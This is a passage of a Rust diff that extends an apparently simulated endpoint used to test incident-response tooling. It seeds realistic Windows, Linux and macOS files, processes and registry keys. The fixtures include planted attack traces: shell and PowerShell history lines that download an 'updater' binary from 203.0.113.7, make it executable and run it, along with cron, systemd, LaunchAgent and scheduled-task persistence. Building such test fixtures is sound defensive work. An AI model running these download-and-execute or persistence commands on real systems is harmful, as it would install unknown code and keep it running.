@@ -294,6 +294,7 @@ impl Endpoint {
                 ep.seed_processes();
                 ep.seed_files(big_file_size);
                 ep.seed_registry();
+                ep.seed_windows_extras();
             }
             SensorOs::Linux | SensorOs::MacOs => {
                 ep.seed_unix_processes();
@@ -672,6 +673,564 @@ impl Endpoint {
         }
     }
 
+    // ----- what a responder looks at first (beyond the demo's evidence) ---------------------
+
+    /// The rest of a believable Windows 10 host: event logs, prefetch, scheduled tasks,
+    /// start-up folders, user hives, the usual LOLBins, more services and their registry keys.
+    fn seed_windows_extras(&mut self) {
+        let t0 = self.boot_epoch - 200 * 86_400;
+        let user_sid =
+            format!("S-1-5-21-850238481-2932160288-{}-1001", 1_760_307_000 + self.sensor_id);
+        for d in [
+            "C:\\$Recycle.Bin",
+            "C:\\Windows\\System32\\winevt\\Logs",
+            "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows",
+            "C:\\Windows\\System32\\wbem",
+            "C:\\Windows\\SysWOW64",
+            "C:\\Windows\\Prefetch",
+            "C:\\Program Files\\Windows Defender",
+            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp",
+            "C:\\Users\\Default",
+            "C:\\Users\\jdoe\\Downloads",
+            "C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
+            "C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine",
+        ] {
+            self.seed_dir_all(d, t0);
+        }
+        let binaries: [(&str, u64); 22] = [
+            ("C:\\Windows\\System32\\ntoskrnl.exe", 10_926_408),
+            ("C:\\Windows\\System32\\ntdll.dll", 2_050_344),
+            ("C:\\Windows\\System32\\kernel32.dll", 774_256),
+            ("C:\\Windows\\System32\\advapi32.dll", 711_808),
+            ("C:\\Windows\\System32\\userinit.exe", 34_304),
+            ("C:\\Windows\\System32\\dwm.exe", 94_720),
+            ("C:\\Windows\\System32\\taskhostw.exe", 101_888),
+            ("C:\\Windows\\System32\\sihost.exe", 120_320),
+            ("C:\\Windows\\System32\\RuntimeBroker.exe", 135_168),
+            ("C:\\Windows\\System32\\reg.exe", 76_800),
+            ("C:\\Windows\\System32\\tasklist.exe", 99_328),
+            ("C:\\Windows\\System32\\netstat.exe", 39_424),
+            ("C:\\Windows\\System32\\net.exe", 57_344),
+            ("C:\\Windows\\System32\\sc.exe", 71_680),
+            ("C:\\Windows\\System32\\schtasks.exe", 231_424),
+            ("C:\\Windows\\System32\\rundll32.exe", 71_680),
+            ("C:\\Windows\\System32\\regsvr32.exe", 25_088),
+            ("C:\\Windows\\System32\\certutil.exe", 1_335_808),
+            ("C:\\Windows\\System32\\wbem\\WMIC.exe", 517_632),
+            ("C:\\Windows\\SysWOW64\\cmd.exe", 236_544),
+            ("C:\\Program Files\\Windows Defender\\MsMpEng.exe", 133_440),
+            ("C:\\Users\\jdoe\\NTUSER.DAT", 2_621_440),
+        ];
+        for (path, size) in binaries {
+            self.seed_synthetic(path, size, &[], t0);
+        }
+        self.seed_synthetic("C:\\Users\\Default\\NTUSER.DAT", 262_144, &["HIDDEN"], t0);
+        for log in [
+            "Application.evtx",
+            "Security.evtx",
+            "System.evtx",
+            "Setup.evtx",
+            "Windows PowerShell.evtx",
+            "Microsoft-Windows-PowerShell%4Operational.evtx",
+            "Microsoft-Windows-TaskScheduler%4Operational.evtx",
+            "Microsoft-Windows-TerminalServices-LocalSessionManager%4Operational.evtx",
+        ] {
+            let size = if log == "Security.evtx" { 20_975_616 } else { 1_118_208 };
+            self.seed_synthetic(
+                &format!("C:\\Windows\\System32\\winevt\\Logs\\{log}"),
+                size,
+                &[],
+                t0,
+            );
+        }
+        for pf in ["CMD.EXE-4A81B364.pf", "POWERSHELL.EXE-022A1004.pf", "UPDATER.EXE-7F1C2A9D.pf"] {
+            self.seed_synthetic(&format!("C:\\Windows\\Prefetch\\{pf}"), 23_456, &[], t0);
+        }
+        let texts: Vec<(&str, Vec<u8>)> = vec![
+            (
+                "C:\\Windows\\System32\\drivers\\etc\\networks",
+                b"# Copyright (c) 1993-1999 Microsoft Corp.\r\nloopback                 127\r\n".to_vec(),
+            ),
+            (
+                "C:\\Windows\\System32\\drivers\\etc\\services",
+                b"echo                7/tcp\r\nftp                21/tcp\r\nssh                22/tcp\r\nhttp               80/tcp    www\r\nhttps             443/tcp\r\n".to_vec(),
+            ),
+            (
+                "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\UpdaterTask",
+                b"<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Actions><Exec><Command>C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe</Command><Arguments>--silent</Arguments></Exec></Actions></Task>\r\n".to_vec(),
+            ),
+            (
+                "C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
+                b"Get-Process\r\nInvoke-WebRequest -Uri http://203.0.113.7/u.exe -OutFile $env:TEMP\\updater.exe\r\nStart-Process $env:TEMP\\updater.exe -ArgumentList '--silent'\r\n".to_vec(),
+            ),
+            ("C:\\Users\\jdoe\\Downloads\\invoice_2291.pdf.lnk", b"L\x00\x00\x00 shortcut".to_vec()),
+        ];
+        for (path, body) in texts {
+            self.seed_text(path, body, t0);
+        }
+
+        const SYSTEM: (&str, &str) = ("s-1-5-18", "NT AUTHORITY\\SYSTEM");
+        let user_sid_lc = user_sid.to_lowercase();
+        let user_name = format!("{}\\jdoe", self.hostname);
+        let procs: Vec<ProcSeed<'_>> = vec![
+            (
+                1040,
+                524,
+                13,
+                "c:\\windows\\system32\\dwm.exe",
+                "\"dwm.exe\"".into(),
+                ("s-1-5-90-0-1", "Window Manager\\DWM-1"),
+            ),
+            (
+                1680,
+                568,
+                20,
+                "c:\\program files\\windows defender\\msmpeng.exe",
+                "\"C:\\Program Files\\Windows Defender\\MsMpEng.exe\"".into(),
+                SYSTEM,
+            ),
+            (
+                2012,
+                900,
+                94,
+                "c:\\windows\\system32\\sihost.exe",
+                "sihost.exe".into(),
+                (&user_sid_lc, &user_name),
+            ),
+            (
+                2036,
+                900,
+                94,
+                "c:\\windows\\system32\\taskhostw.exe",
+                "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}".into(),
+                (&user_sid_lc, &user_name),
+            ),
+            (
+                2600,
+                700,
+                120,
+                "c:\\windows\\system32\\runtimebroker.exe",
+                "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding".into(),
+                (&user_sid_lc, &user_name),
+            ),
+        ];
+        for (pid, parent, offset, path, cmd, (sid, user)) in procs {
+            self.spawn(pid, parent, self.boot_epoch + offset, path, cmd, sid, user);
+        }
+        // The process list in pid order, as a sensor walking the process table returns it.
+        self.processes.sort_by_key(|p| p.pid);
+
+        let sz = |s: &str| ("REG_SZ", Value::from(s));
+        let expand = |s: &str| ("REG_EXPAND_SZ", Value::from(s));
+        let dword = |n: u32| ("REG_DWORD", Value::from(n));
+        let user_run =
+            format!("HKU\\{user_sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
+        let keys: Vec<RegSeed<'_>> = vec![
+            (
+                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
+                vec![
+                    ("Shell", sz("explorer.exe")),
+                    ("Userinit", sz("C:\\Windows\\system32\\userinit.exe,")),
+                    ("AutoAdminLogon", sz("0")),
+                ],
+            ),
+            (
+                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options",
+                vec![],
+            ),
+            (
+                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System",
+                vec![("EnableLUA", dword(1))],
+            ),
+            ("HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run", vec![]),
+            (
+                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\CarbonBlack",
+                vec![
+                    ("DisplayName", sz("Carbon Black Sensor")),
+                    ("Publisher", sz("Carbon Black, Inc.")),
+                ],
+            ),
+            (
+                "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection",
+                vec![("DisableRealtimeMonitoring", dword(0))],
+            ),
+            (
+                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog",
+                vec![
+                    ("Start", dword(2)),
+                    (
+                        "ImagePath",
+                        expand(
+                            "%SystemRoot%\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p",
+                        ),
+                    ),
+                ],
+            ),
+            (
+                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Schedule",
+                vec![
+                    ("Start", dword(2)),
+                    ("ImagePath", expand("%systemroot%\\system32\\svchost.exe -k netsvcs -p")),
+                ],
+            ),
+            (
+                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend",
+                vec![
+                    ("Start", dword(2)),
+                    ("ImagePath", expand("\"C:\\Program Files\\Windows Defender\\MsMpEng.exe\"")),
+                ],
+            ),
+            (
+                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Spooler",
+                vec![
+                    ("Start", dword(2)),
+                    ("ImagePath", expand("%SystemRoot%\\System32\\spoolsv.exe")),
+                ],
+            ),
+            (
+                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa",
+                vec![("LimitBlankPasswordUse", dword(1)), ("RunAsPPL", dword(1))],
+            ),
+            ("HKLM\\SYSTEM\\Select", vec![("Current", dword(1)), ("LastKnownGood", dword(1))]),
+            ("HKLM\\SAM\\SAM", vec![]),
+            ("HKLM\\SECURITY\\Policy", vec![]),
+            (
+                &user_run,
+                vec![(
+                    "OneDrive",
+                    sz(
+                        "\"C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
+                    ),
+                )],
+            ),
+            ("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", vec![]),
+        ];
+        self.seed_registry_keys(keys);
+    }
+
+    /// Inserts `keys` (creating missing parents) with their values.
+    fn seed_registry_keys(&mut self, keys: Vec<RegSeed<'_>>) {
+        for (path, values) in keys {
+            if let Ok(key) = self.reg_create_key_inner(path)
+                && let Some(k) = self.registry.get_mut(&key)
+            {
+                k.values = values
+                    .into_iter()
+                    .map(|(name, (ty, data))| RegValue {
+                        name: name.to_owned(),
+                        value_type: ty.to_owned(),
+                        data,
+                    })
+                    .collect();
+            }
+        }
+    }
+
+    /// `path` and every missing ancestor as directories.
+    fn seed_dir_all(&mut self, path: &str, t: i64) {
+        let sep = self.sep();
+        let mut prefix = String::new();
+        for (i, part) in path.split(sep).enumerate() {
+            if i > 0 {
+                prefix.push(sep);
+            }
+            prefix.push_str(part);
+            if part.is_empty() || (i == 0 && self.windows()) {
+                continue;
+            }
+            if let Some(key) = self.key(&prefix)
+                && !self.fs.contains_key(&key)
+            {
+                self.fs.insert(key, dir_node(part, t));
+            }
+        }
+    }
+
+    fn parent_of(&self, path: &str) -> String {
+        let sep = self.sep();
+        match path.trim_end_matches(sep).rsplit_once(sep) {
+            Some((parent, _)) if parent.is_empty() => sep.to_string(),
+            Some((parent, _)) => parent.to_owned(),
+            None => path.to_owned(),
+        }
+    }
+
+    fn seed_text(&mut self, path: &str, body: Vec<u8>, t: i64) {
+        let parent = self.parent_of(path);
+        self.seed_dir_all(&parent, t);
+        if let Some(key) = self.key(path) {
+            let name = last_component(path).to_owned();
+            self.fs.insert(key, file_node(name, Content::bytes(body), t, &[]));
+        }
+    }
+
+    // ----- Linux and macOS -------------------------------------------------------------------
+
+    fn seed_unix_processes(&mut self) {
+        const ROOT: (&str, &str) = ("", "root");
+        let user: (&str, &str) = ("", "jdoe");
+        let table: Vec<ProcSeed<'_>> = match self.os {
+            SensorOs::Linux => vec![
+                (1, 0, 0, "/usr/lib/systemd/systemd", "/sbin/init splash".into(), ROOT),
+                (2, 0, 0, "", "[kthreadd]".into(), ROOT),
+                (312, 1, 3, "/usr/lib/systemd/systemd-journald", "/lib/systemd/systemd-journald".into(), ROOT),
+                (340, 1, 3, "/usr/lib/systemd/systemd-udevd", "/lib/systemd/systemd-udevd".into(), ROOT),
+                (601, 1, 6, "/usr/sbin/rsyslogd", "/usr/sbin/rsyslogd -n -iNONE".into(), ("", "syslog")),
+                (612, 1, 6, "/usr/lib/systemd/systemd-logind", "/lib/systemd/systemd-logind".into(), ROOT),
+                (640, 1, 7, "/usr/sbin/cron", "/usr/sbin/cron -f -P".into(), ROOT),
+                (
+                    702,
+                    1,
+                    8,
+                    "/usr/sbin/sshd",
+                    "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups".into(),
+                    ROOT,
+                ),
+                (CB_PID, 1, 9, "/usr/sbin/cbdaemon", "/usr/sbin/cbdaemon".into(), ROOT),
+                (2010, 702, 95, "/usr/sbin/sshd", "sshd: jdoe [priv]".into(), ROOT),
+                (2044, 2010, 96, "/usr/bin/bash", "-bash".into(), user),
+                (2468, 2044, 410, "/usr/bin/vim", "vim /home/jdoe/todo.txt".into(), user),
+                (3012, 1, 7_200, "/tmp/.cache/updater", "/tmp/.cache/updater --silent --beacon 300".into(), user),
+            ],
+            _ => vec![
+                (1, 0, 0, "/sbin/launchd", "/sbin/launchd".into(), ROOT),
+                (80, 1, 2, "/usr/sbin/syslogd", "/usr/sbin/syslogd".into(), ROOT),
+                (90, 1, 2, "/usr/libexec/UserEventAgent", "/usr/libexec/UserEventAgent (System)".into(), ROOT),
+                (120, 1, 3, "/usr/libexec/logd", "/usr/libexec/logd".into(), ROOT),
+                (
+                    150,
+                    1,
+                    4,
+                    "/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources/WindowServer",
+                    "/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer -daemon".into(),
+                    ("", "_windowserver"),
+                ),
+                (
+                    170,
+                    1,
+                    4,
+                    "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow",
+                    "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow console".into(),
+                    user,
+                ),
+                (
+                    CB_PID,
+                    1,
+                    9,
+                    "/Applications/CarbonBlack/CbOsxSensorService",
+                    "/Applications/CarbonBlack/CbOsxSensorService".into(),
+                    ROOT,
+                ),
+                (
+                    2044,
+                    1,
+                    95,
+                    "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder",
+                    "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder".into(),
+                    user,
+                ),
+                (
+                    2050,
+                    1,
+                    95,
+                    "/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock",
+                    "/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock".into(),
+                    user,
+                ),
+                (
+                    2468,
+                    1,
+                    410,
+                    "/System/Applications/TextEdit.app/Contents/MacOS/TextEdit",
+                    "/System/Applications/TextEdit.app/Contents/MacOS/TextEdit".into(),
+                    user,
+                ),
+                (
+                    3012,
+                    1,
+                    7_200,
+                    "/Users/jdoe/Library/Application Support/.updater/updater",
+                    "\"/Users/jdoe/Library/Application Support/.updater/updater\" --silent --beacon 300"
+                        .into(),
+                    user,
+                ),
+            ],
+        };
+        for (pid, parent, offset, path, cmd, (sid, user)) in table {
+            self.spawn(pid, parent, self.boot_epoch + offset, path, cmd, sid, user);
+        }
+    }
+
+    /// The directory the evidence files live in on this endpoint.
+    pub(crate) fn evidence_dir(&self) -> &'static str {
+        match self.os {
+            SensorOs::Windows => "C:\\evidence",
+            SensorOs::Linux => "/home/jdoe/evidence",
+            SensorOs::MacOs => "/Users/jdoe/evidence",
+        }
+    }
+
+    fn seed_unix_files(&mut self, big_file_size: u64) {
+        let t0 = self.boot_epoch - 200 * 86_400;
+        self.fs.insert("/".to_owned(), dir_node("", t0));
+        let linux = self.os == SensorOs::Linux;
+        let host = self.hostname.clone();
+        let common_dirs = [
+            "/bin",
+            "/sbin",
+            "/usr/bin",
+            "/usr/sbin",
+            "/usr/local/bin",
+            "/var/log",
+            "/var/lib/cb",
+            "/var/tmp",
+            "/tmp",
+            "/etc",
+            "/opt",
+        ];
+        for d in common_dirs {
+            self.seed_dir_all(d, t0);
+        }
+        let mut binaries: Vec<(&str, u64)> = vec![
+            ("/bin/bash", 1_396_520),
+            ("/bin/sh", 125_688),
+            ("/bin/ls", 138_208),
+            ("/bin/cat", 35_280),
+            ("/usr/bin/whoami", 35_328),
+            ("/usr/bin/id", 39_424),
+            ("/usr/bin/uname", 35_328),
+            ("/usr/bin/python3", 5_904_904),
+            ("/usr/bin/curl", 260_328),
+        ];
+        let texts: Vec<(String, Vec<u8>)>;
+        if linux {
+            for d in [
+                "/boot",
+                "/dev",
+                "/proc",
+                "/root/.ssh",
+                "/home/jdoe/.ssh",
+                "/etc/ssh",
+                "/etc/cron.d",
+                "/etc/systemd/system",
+                "/usr/lib/systemd",
+                "/tmp/.cache",
+            ] {
+                self.seed_dir_all(d, t0);
+            }
+            binaries.extend([
+                ("/usr/bin/bash", 1_396_520),
+                ("/usr/bin/hostname", 22_760),
+                ("/usr/bin/vim", 3_760_128),
+                ("/usr/bin/sudo", 232_416),
+                ("/usr/sbin/sshd", 921_288),
+                ("/usr/sbin/cron", 55_944),
+                ("/usr/sbin/rsyslogd", 755_608),
+                ("/usr/sbin/cbdaemon", 4_518_200),
+                ("/sbin/init", 1_849_992),
+                ("/usr/lib/systemd/systemd", 1_849_992),
+                ("/usr/lib/systemd/systemd-journald", 158_120),
+                ("/usr/lib/systemd/systemd-udevd", 792_728),
+                ("/usr/lib/systemd/systemd-logind", 268_648),
+                ("/boot/vmlinuz-5.15.0-91-generic", 11_649_416),
+                ("/var/log/wtmp", 38_016),
+                ("/var/log/btmp", 4_608),
+                ("/tmp/.cache/updater", 73_216),
+            ]);
+            texts = vec![
+                ("/etc/hostname".into(), format!("{host}\n").into_bytes()),
+                ("/etc/hosts".into(), format!("127.0.0.1 localhost\n127.0.1.1 {host}\n\n::1     ip6-localhost ip6-loopback\n").into_bytes()),
+                ("/etc/passwd".into(), b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nsyslog:x:104:110::/home/syslog:/usr/sbin/nologin\nsshd:x:109:65534::/run/sshd:/usr/sbin/nologin\njdoe:x:1000:1000:John Doe,,,:/home/jdoe:/bin/bash\n".to_vec()),
+                ("/etc/shadow".into(), b"root:*:19400:0:99999:7:::\ndaemon:*:19400:0:99999:7:::\njdoe:$6$rounds=4096$sim$0000000000000000000000000000000000000000000:19400:0:99999:7:::\n".to_vec()),
+                ("/etc/group".into(), b"root:x:0:\nsudo:x:27:jdoe\njdoe:x:1000:\n".to_vec()),
+                ("/etc/os-release".into(), b"PRETTY_NAME=\"Ubuntu 22.04.3 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\nID=ubuntu\nID_LIKE=debian\n".to_vec()),
+                ("/etc/crontab".into(), b"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n".to_vec()),
+                ("/etc/cron.d/updater".into(), b"*/5 * * * * jdoe /tmp/.cache/updater --silent\n".to_vec()),
+                ("/etc/ssh/sshd_config".into(), b"Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\nPasswordAuthentication yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n".to_vec()),
+                ("/etc/sudoers".into(), b"root\tALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n".to_vec()),
+                ("/etc/systemd/system/updater.service".into(), b"[Unit]\nDescription=System updater\n\n[Service]\nExecStart=/tmp/.cache/updater --silent\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n".to_vec()),
+                ("/var/log/auth.log".into(), format!("Jan 10 09:12:01 {host} sshd[2010]: Accepted password for jdoe from 203.0.113.7 port 51022 ssh2\nJan 10 09:12:01 {host} sshd[2010]: pam_unix(sshd:session): session opened for user jdoe(uid=1000) by (uid=0)\nJan 10 09:14:37 {host} sudo:     jdoe : TTY=pts/0 ; PWD=/home/jdoe ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/.cache/updater http://203.0.113.7/u\n").into_bytes()),
+                ("/var/log/syslog".into(), format!("Jan 10 09:00:00 {host} systemd[1]: Started Daily apt download activities.\nJan 10 09:15:02 {host} systemd[1]: Started System updater.\n").into_bytes()),
+                ("/var/log/kern.log".into(), format!("Jan 10 08:59:58 {host} kernel: [    0.000000] Linux version 5.15.0-91-generic\n").into_bytes()),
+                ("/root/.bash_history".into(), b"apt update\nsystemctl status cbdaemon\n".to_vec()),
+                ("/home/jdoe/.bash_history".into(), b"ls -la\nsudo curl -o /tmp/.cache/updater http://203.0.113.7/u\nchmod +x /tmp/.cache/updater\n/tmp/.cache/updater --silent &\n".to_vec()),
+                ("/home/jdoe/.ssh/authorized_keys".into(), b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEdrgateSimulatedKeyOnlyForTests jdoe@laptop\n".to_vec()),
+                ("/home/jdoe/todo.txt".into(), b"- call IT about the weird popup\n- renew VPN cert\n".to_vec()),
+            ];
+        } else {
+            for d in [
+                "/Applications/Safari.app/Contents/MacOS",
+                "/Applications/Utilities/Terminal.app/Contents/MacOS",
+                "/Applications/CarbonBlack",
+                "/System/Library/CoreServices/Finder.app/Contents/MacOS",
+                "/System/Library/CoreServices/Dock.app/Contents/MacOS",
+                "/System/Library/CoreServices/loginwindow.app/Contents/MacOS",
+                "/System/Library/LaunchDaemons",
+                "/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources",
+                "/System/Applications/TextEdit.app/Contents/MacOS",
+                "/Library/LaunchAgents",
+                "/Library/LaunchDaemons",
+                "/Users/Shared",
+                "/Users/jdoe/Desktop",
+                "/Users/jdoe/Documents",
+                "/Users/jdoe/Downloads",
+                "/Users/jdoe/Library/LaunchAgents",
+                "/Users/jdoe/Library/Application Support/.updater",
+                "/usr/libexec",
+                "/private/var/log",
+            ] {
+                self.seed_dir_all(d, t0);
+            }
+            binaries.extend([
+                ("/bin/zsh", 1_361_200),
+                ("/bin/hostname", 51_344),
+                ("/sbin/launchd", 1_049_024),
+                ("/usr/sbin/syslogd", 206_320),
+                ("/usr/sbin/sshd", 1_145_168),
+                ("/usr/libexec/UserEventAgent", 134_832),
+                ("/usr/libexec/logd", 1_061_760),
+                ("/Applications/Safari.app/Contents/MacOS/Safari", 33_136),
+                ("/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", 5_101_760),
+                ("/Applications/CarbonBlack/CbOsxSensorService", 6_871_424),
+                ("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", 8_632_320),
+                ("/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock", 6_101_408),
+                ("/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow", 2_930_816),
+                ("/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources/WindowServer", 152_464),
+                ("/System/Applications/TextEdit.app/Contents/MacOS/TextEdit", 509_232),
+                ("/Users/jdoe/Library/Application Support/.updater/updater", 73_216),
+            ]);
+            texts = vec![
+                ("/etc/hosts".into(), b"##\n# Host Database\n##\n127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n".to_vec()),
+                ("/etc/passwd".into(), b"##\n# User Database\n##\nnobody:*:-2:-2:Unprivileged User:/var/empty:/usr/bin/false\nroot:*:0:0:System Administrator:/var/root:/bin/sh\n_windowserver:*:88:88:WindowServer:/var/empty:/usr/bin/false\n".to_vec()),
+                ("/var/log/system.log".into(), format!("Jan 10 09:15:02 {host} launchd[1]: Service com.apple.updater started\n").into_bytes()),
+                ("/var/log/install.log".into(), format!("2024-01-10 09:01:44-08 {host} installd[512]: Installed \"Carbon Black Sensor\"\n").into_bytes()),
+                ("/Library/LaunchDaemons/com.carbonblack.daemon.plist".into(), b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.carbonblack.daemon</string><key>Program</key><string>/Applications/CarbonBlack/CbOsxSensorService</string></dict></plist>\n".to_vec()),
+                ("/System/Library/LaunchDaemons/ssh.plist".into(), b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.openssh.sshd</string></dict></plist>\n".to_vec()),
+                ("/Users/jdoe/Library/LaunchAgents/com.apple.updater.plist".into(), b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.apple.updater</string><key>ProgramArguments</key><array><string>/Users/jdoe/Library/Application Support/.updater/updater</string><string>--silent</string></array><key>RunAtLoad</key><true/></dict></plist>\n".to_vec()),
+                ("/Users/jdoe/.zsh_history".into(), b": 1704877000:0;curl -o ~/Library/Application\\ Support/.updater/updater http://203.0.113.7/u\n: 1704877010:0;chmod +x ~/Library/Application\\ Support/.updater/updater\n".to_vec()),
+                ("/Users/jdoe/Desktop/todo.txt".into(), b"- call IT about the weird popup\n- renew VPN cert\n".to_vec()),
+            ];
+        }
+        for (path, size) in binaries {
+            let parent = self.parent_of(path);
+            self.seed_dir_all(&parent, t0);
+            self.seed_synthetic(path, size, &[], t0);
+        }
+        for (path, body) in texts {
+            self.seed_text(&path, body, t0);
+        }
+        let evidence = self.evidence_dir();
+        self.seed_dir_all(evidence, t0);
+        self.seed_synthetic(&format!("{evidence}/big.bin"), big_file_size, &[], t0);
+        self.seed_text(&format!("{evidence}/note.txt"), NOTE_TXT.as_bytes().to_vec(), t0);
+        self.seed_text(&format!("{evidence}/empty.txt"), Vec::new(), t0);
+        self.seed_text(
+            &format!("{evidence}/host.txt"),
+            format!("Hostname: {host}\n").into_bytes(),
+            t0,
+        );
+    }
+
     // ----- inspection helpers (used by tests through `Simulator`) ------------------------
 
     pub(crate) fn process_exists(&self, pid: u64) -> bool {
@@ -714,7 +1273,9 @@ impl Endpoint {
             "get file" => {
                 let content = self.read_file(cmd.object_str()?)?;
                 let offset = cmd.number("offset").unwrap_or(0);
-                out.fetched = Some(content.slice(offset, cmd.number("get_count")));
+                // A sensor that ignores `get_count` sends the rest of the file.
+                let count = cmd.number("get_count").filter(|_| !self.ignores_get_count);
+                out.fetched = Some(content.slice(offset, count));
             }
             "put file" => {
                 let content = cmd.upload.clone().ok_or(Hresult::FILE_NOT_FOUND)?;
@@ -798,11 +1359,24 @@ impl Endpoint {
         let pid = as_u64_lenient(object).ok_or(Hresult::INVALID_PARAMETER)?;
         let idx =
             self.processes.iter().position(|p| p.pid == pid).ok_or(Hresult::INVALID_PARAMETER)?;
-        // TerminateProcess on System/PPL processes and on the tamper-protected sensor fails.
-        let protected =
-            ["smss.exe", "csrss.exe", "wininit.exe", "services.exe", "lsass.exe", "cb.exe"];
+        // TerminateProcess on System/PPL processes and on the tamper-protected sensor fails;
+        // on Unix, init (pid 1), kernel threads and the sensor itself refuse (EPERM).
+        let protected = [
+            "smss.exe",
+            "csrss.exe",
+            "wininit.exe",
+            "services.exe",
+            "lsass.exe",
+            "cb.exe",
+            "msmpeng.exe",
+            "cbdaemon",
+            "cbosxsensorservice",
+            "launchd",
+            "systemd",
+        ];
         let p = &self.processes[idx];
-        if p.pid <= 4 || protected.iter().any(|n| p.path.ends_with(&format!("\\{n}"))) {
+        let name = last_component(&p.path).to_lowercase();
+        if p.pid <= 4 || (!p.path.is_empty() && protected.contains(&name.as_str())) {
             return Err(Hresult::ACCESS_DENIED);
         }
         self.processes.remove(idx);
@@ -870,7 +1444,7 @@ impl Endpoint {
     }
 
     fn is_running_image(&self, key: &str) -> bool {
-        self.processes.iter().any(|p| p.path == key)
+        self.processes.iter().any(|p| self.key(&p.path).is_some_and(|k| k == key))
     }
 
     fn delete_file(&mut self, path: &str) -> Result<(), Hresult> {
@@ -908,32 +1482,45 @@ impl Endpoint {
     /// last component lists matching children (with `.`/`..` outside a drive root); a plain
     /// path names exactly one entry — the file or directory itself.
     fn directory_list(&self, filter: &str) -> Result<Vec<Value>, Hresult> {
-        let mut filter = filter.replace('/', "\\");
-        if filter.ends_with('\\') || (filter.len() == 2 && filter.ends_with(':')) {
+        let windows = self.windows();
+        let sep = self.sep();
+        let mut filter = if windows { filter.replace('/', "\\") } else { filter.trim().to_owned() };
+        if filter.ends_with(sep) || (windows && filter.len() == 2 && filter.ends_with(':')) {
             // CLI0 appends `*` to a trailing `\` itself; accept the bare form too.
-            if !filter.ends_with('\\') {
-                filter.push('\\');
+            if !filter.ends_with(sep) {
+                filter.push(sep);
             }
             filter.push('*');
         }
-        let (dir_part, last) = filter.rsplit_once('\\').ok_or(Hresult::INVALID_PARAMETER)?;
+        let (dir_part, last) = filter.rsplit_once(sep).ok_or(Hresult::INVALID_PARAMETER)?;
         if !last.contains(['*', '?']) {
             let (_, node) = self.lookup(&filter)?;
-            return Ok(vec![entry_json(&node.name, node)]);
+            return Ok(vec![entry_json(&node.name, node, windows)]);
         }
-        let dir_key = self.key(&format!("{dir_part}\\")).ok_or(Hresult::INVALID_PARAMETER)?;
+        let dir_key = self.key(&format!("{dir_part}{sep}")).ok_or(Hresult::INVALID_PARAMETER)?;
         check_drive(&dir_key)?;
         let dir = self.fs.get(&dir_key).filter(|n| n.dir).ok_or(Hresult::PATH_NOT_FOUND)?;
         let pattern = if last == "*.*" { "*" } else { last };
+        // Linux file names are case-sensitive; Windows and macOS (by default) are not.
+        let matches = |name: &str| {
+            if self.os == SensorOs::Linux {
+                wildmatch::WildMatch::new(pattern).matches(name)
+            } else {
+                glob(pattern, name)
+            }
+        };
         let mut out = Vec::new();
-        if !dir_key.ends_with('\\') && glob(pattern, ".") {
